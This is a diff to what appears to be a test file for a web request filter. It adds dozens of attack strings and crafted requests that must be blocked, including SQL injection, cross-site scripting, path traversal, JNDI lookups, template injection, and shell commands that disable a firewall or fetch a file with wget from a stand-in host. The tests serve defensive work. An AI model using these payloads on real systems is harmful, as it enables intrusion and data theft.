@@ -117,6 +117,29 @@ const attacks: [string, string][] = [
   ['a call behind a comment', 'exec/*x*/(1)'],
   ['a response', 'x\n\nHTTP/1.1 200 OK'],
   ['a cell', "=cmd|'/c calc'!A1"],
+  ['an escaped quote', '0\\"xor(if(1=1,sleep(5),0))xor\\"z'],
+  ['a broken identifier', '`) where 4=4 union all select 1,2#'],
+  ['two comparisons of literals', ') as x where 4=4 and 9=8#'],
+  ['a log', '/opt/web/logs/error_log'],
+  ['settings', 'C:\\web\\php\\php.ini'],
+  ['a script called a picture', '/up/do.php#.png'],
+  ['a delay by a command', 'x; sleep 5'],
+  ['a firewall', '& netsh firewall set opmode disable'],
+  ['a program and its address', 'wget https://x.example/a.txt'],
+  ['a closed tag', '"><marquee>x'],
+  ['an alias', '1;a=eval;b=alert;a(b(1))'],
+  ['letters in octal', "('\\141\\154\\145\\162\\164')()"],
+  ['a lookup behind backslashes', '$\\{$\\{::-j\\}$\\{::-n\\}di:rmi://x}'],
+  ['a method of a text', "{{'a'.toUpperCase()}}"],
+  ["an object of a template's", '${request.getAttribute("a")}'],
+  ['a comparison that comments out the rest', '? or 5=5 --'],
+  ['a backup to elsewhere', "backup database shop to disk = '\\\\x\\y'"],
+  ['a provider', "openrowset(bulk 'C:\\x', single_clob)"],
+  ['a setting', 'select @@lang'],
+  ['slashes whose percent sign is gone', '..2f..2fetc2fhosts'],
+  ['an axis', 'count(/child::node())'],
+  ['a filter over two lines', 'x)(\n|(uid=*)'],
+  ['an event of no browser', '<x onanything=1'],
   ['UTF-7', '<?xml version="1.0" encoding="UTF-7"?>'],
 ];
 
@@ -135,6 +158,38 @@ describe('attacks', () => {
     for (const [place, verdict] of Object.entries(places))
       expect(verdict.decided, `${place}: ${explain(verdict)}`).toBe('block');
   });
+});
+
+describe('what stands where nothing is expected', () => {
+  const blocked = (verdict: Verdict) => expect(verdict.decided, explain(verdict)).toBe('block');
+  it('a parameter whose name is half of a tag', () => blocked(send('/?<a%20href=//x%20onfocus%0c=x()>')));
+  it('a condition whose first half is a name', () => blocked(send("/?a'%20and%20'1'='1")));
+  it('a user agent that is no product', () => {
+    blocked(send('/', { 'user-agent': 'prompt(1)' }));
+    blocked(send('/', { 'user-agent': 'C:/WINDOWS/win.ini' }));
+  });
+  it('words with signs of no width in them', () =>
+    blocked(send("/?a=7'%20un%e2%80%8bion%20sel%e2%80%8bect%201,2")));
+  it('a comparison in the middle of a list', () => blocked(send('/?a=9=9,13)')));
+  it('an event with a NUL in its name', () => blocked(send('/?a=%3Csvg%0ao%00nload=%09((x))()//')));
+  it('a condition in a referer', () => blocked(send('/', { referer: "https://x.example/?q=1' or 1=1-- " })));
+  it('a call in a cookie', () => blocked(send('/', { cookie: 'a=prompt(1)' })));
+  it('overlong dots and slashes', () => {
+    blocked(send('/?f=%c0%2e%c0%2e%c0%2f%c0%2e%c0%2e%c0%2fetc'));
+    blocked(send('/?f=%e0%80%ae%e0%80%ae%e0%80%af%e0%80%ae%e0%80%ae%e0%80%afetc'));
+    blocked(send('/?f=%uff0e%uff0e%u2215%uff0e%uff0e%u2216etc'));
+  });
+  it('a text inside of a binary body', () =>
+    blocked(
+      send(
+        '/',
+        { 'content-type': 'application/x-protobuf', 'content-length': '1' },
+        "\x0a\x00\x01\x16x' union select 1,2-- \x00\x00\x10\x01",
+      ),
+    ));
+  it('a session in a link of another site', () =>
+    blocked(send('/login?sessionid=5', { referer: 'https://x.example/' })));
+  it('a header after a first line', () => blocked(send('/?a=b%0d%0aX-Injected:%201')));
 });
 
 describe.skipIf(!hasCorpus())('the request data', () => {
